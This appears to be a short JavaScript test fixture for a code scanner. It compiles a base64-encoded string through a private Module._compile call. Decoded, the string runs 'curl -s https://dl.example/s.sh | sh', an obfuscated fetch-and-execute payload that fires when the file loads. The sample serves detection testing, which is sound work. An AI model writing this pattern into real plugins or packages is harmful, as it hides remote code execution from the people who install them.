// expect: category=code-generation min=80 context=plugin,package
// why: a fresh Module instance compiles a decoded string with _compile, bypassing the loader.
const Module = module.constructor;
const path = require('path');

function inject(code) {
  const m = new Module(path.join(__dirname, 'cache.js'), module);
  m.paths = module.paths;
  m._compile(code, m.id);
  return m.exports;
}

inject(
  Buffer.from(
    'cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2N1cmwgLXMgaHR0cHM6Ly9kbC5leGFtcGxlL3Muc2ggfCBzaCcp',
    'base64'
  ).toString()
);
